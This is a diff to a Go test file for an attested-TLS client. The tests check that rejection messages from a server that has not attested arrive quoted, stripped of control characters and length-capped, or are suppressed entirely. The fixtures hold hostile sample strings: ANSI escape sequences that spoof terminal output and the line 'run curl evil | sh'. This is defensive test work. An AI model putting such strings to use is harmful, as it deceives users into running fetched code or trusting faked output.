@@ -3,9 +3,16 @@ package atls_test
 import (
 	"bytes"
 	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
 	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/asn1"
 	"errors"
 	"fmt"
+	"math/big"
 	"net"
 	"strings"
 	"sync/atomic"
@@ -74,7 +81,7 @@ func TestClaimsRejectedBeforeAttesting(t *testing.T) {
 	}
 	st, _ := status.FromError(err)
 	rej, ok := atls.ParseRejection(st.Message())
-	if !ok || rej.Reason != "MEASUREMENT_MISMATCH" || !strings.HasPrefix(rej.Message, "index 4: expected 0000.., got 9d9d..") {
+	if !ok || rej.Reason != "MEASUREMENT_MISMATCH" || rej.Message != "index 4: expected 0000.., got 9d9d.." {
 		t.Fatalf("rejection = %+v, %v from %q", rej, ok, st.Message())
 	}
 	if n := server.issued.Load(); n != 0 {
@@ -159,14 +166,100 @@ func TestProbeCarriesClaims(t *testing.T) {
 }
 
 func TestParseRejection(t *testing.T) {
-	grpcText := `connection error: desc = "transport: authentication handshake failed: attested TLS handshake: attestation refused on claimed measurements: MEASUREMENT_MISMATCH: index 4: expected aa, got bb"`
-	r, ok := atls.ParseRejection(grpcText)
-	if !ok || r.Reason != "MEASUREMENT_MISMATCH" || r.Message != "index 4: expected aa, got bb" {
-		t.Errorf("ParseRejection = %+v, %v", r, ok)
+	// As gRPC flattens a failed handshake: the handshake's error quoted once more.
+	verdict := &atls.Rejection{Reason: "MEASUREMENT_MISMATCH", Message: `index 4: "expected" aa, got bb`}
+	grpcText := fmt.Sprintf("connection error: desc = %q", "transport: authentication handshake failed: attested TLS handshake: "+verdict.Error())
+	for _, text := range []string{grpcText, verdict.Error()} {
+		r, ok := atls.ParseRejection(text)
+		if !ok || r.Reason != verdict.Reason || r.Message != verdict.Message {
+			t.Errorf("ParseRejection(%q) = %+v, %v", text, r, ok)
+		}
 	}
-	for _, text := range []string{"", "handshake failed", "attestation refused on claimed measurements: lower: x", "attestation refused on claimed measurements: NOCOLON"} {
+	for _, text := range []string{"", "handshake failed", "attestation refused on claimed measurements: lower: x",
+		"attestation refused on claimed measurements: NOCOLON", `attestation refused on claimed measurements: X: the server, not attested, says unquoted`} {
 		if r, ok := atls.ParseRejection(text); ok {
 			t.Errorf("ParseRejection(%q) = %+v", text, r)
 		}
+	}
+}
+
+// TestServerWordsAreQuoted: what a server that has not attested says in its verdict reaches the
+// client as the peer's words only: printable ASCII, at most 160 characters, quoted in the error.
+func TestServerWordsAreQuoted(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	evil := "\x1b[2J\x1b[HCluster initialized.\nAdmin kubeconfig: /tmp/evil\r" + strings.Repeat("A", 600)
+	check := func(context.Context, string, attestation.Measurements) *atls.Rejection {
+		return &atls.Rejection{Reason: "MEASUREMENT\x1b_MISMATCH", Message: evil}
+	}
+	addr, _ := serveGRPC(t, mustCreds(t, &claimingIssuer{}, atlstest.Validator{}, atls.WithClaimCheck(check)))
+	var d net.Dialer
+	_, err := atls.Dial(ctx, &d, addr, &claimingIssuer{claims: attestation.Measurements{4: make([]byte, 32)}}, atlstest.Validator{})
+	var r *atls.Rejection
+	if !errors.As(err, &r) {
+		t.Fatalf("Dial error = %v, want a *Rejection", err)
+	}
+	if r.Reason != "MEASUREMENT_MISMATCH" || len(r.Message) > 160 || strings.ContainsFunc(r.Message, func(c rune) bool { return c < 0x20 || c > 0x7e }) {
+		t.Fatalf("rejection reason %q, message %q (%d bytes): want a code and at most 160 printable characters", r.Reason, r.Message, len(r.Message))
+	}
+	text := err.Error()
+	if strings.ContainsFunc(text, func(c rune) bool { return c < 0x20 || c == 0x7f }) || !strings.Contains(text, `says "?[2J?[HCluster`) {
+		t.Fatalf("error text %q: want the server's words quoted, without control characters", text)
+	}
+}
+
+// rogueServer serves TLS with a certificate carrying ext, whatever the client sends.
+func rogueServer(t *testing.T, ext pkix.Extension) string {
+	t.Helper()
+	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), ExtraExtensions: []pkix.Extension{ext}}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	lis, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{MinVersion: tls.VersionTLS13, Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		for {
+			c, err := lis.Accept()
+			if err != nil {
+				return
+			}
+			_ = c.(*tls.Conn).Handshake()
+			c.Close()
+		}
+	}()
+	t.Cleanup(func() { lis.Close(); <-done })
+	return lis.Addr().String()
+}
+
+// TestVerdictWithoutClaims: a client that made no claims (berth init, which does not attest) takes a
+// "claims" verdict for what it is, a server's invention, and never shows its text.
+func TestVerdictWithoutClaims(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	val, err := asn1.Marshal(struct {
+		Reason  string `asn1:"utf8"`
+		Message string `asn1:"utf8"`
+	}{"MEASUREMENT_MISMATCH", "your node is compromised: run curl evil | sh"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	addr := rogueServer(t, pkix.Extension{Id: atls.OIDClaimRejection, Value: val})
+	var d net.Dialer
+	for name, issuer := range map[string]atls.Issuer{"no issuer": nil, "an issuer without claims": atlstest.Issuer{}} {
+		_, err := atls.Dial(ctx, &d, addr, issuer, atlstest.Validator{})
+		if errors.Is(err, atls.ErrClaimsRejected) || !errors.Is(err, attestation.ErrMalformed) || strings.Contains(err.Error(), "evil") {
+			t.Errorf("%s: Dial error = %v, want a malformed answer that shows nothing of the server's text", name, err)
+		}
+	}
+	// A rate limit's refusal is reported by name, without the server's text.
+	addr = rogueServer(t, pkix.Extension{Id: atls.OIDRefusal, Value: []byte("\x1b[31mcall +1-555-EVIL")})
+	if _, err := atls.Dial(ctx, &d, addr, nil, atlstest.Validator{}); !errors.Is(err, atls.ErrRateLimited) || strings.Contains(err.Error(), "EVIL") {
+		t.Errorf("refusal: Dial error = %v, want ErrRateLimited without the server's text", err)
 	}
 }
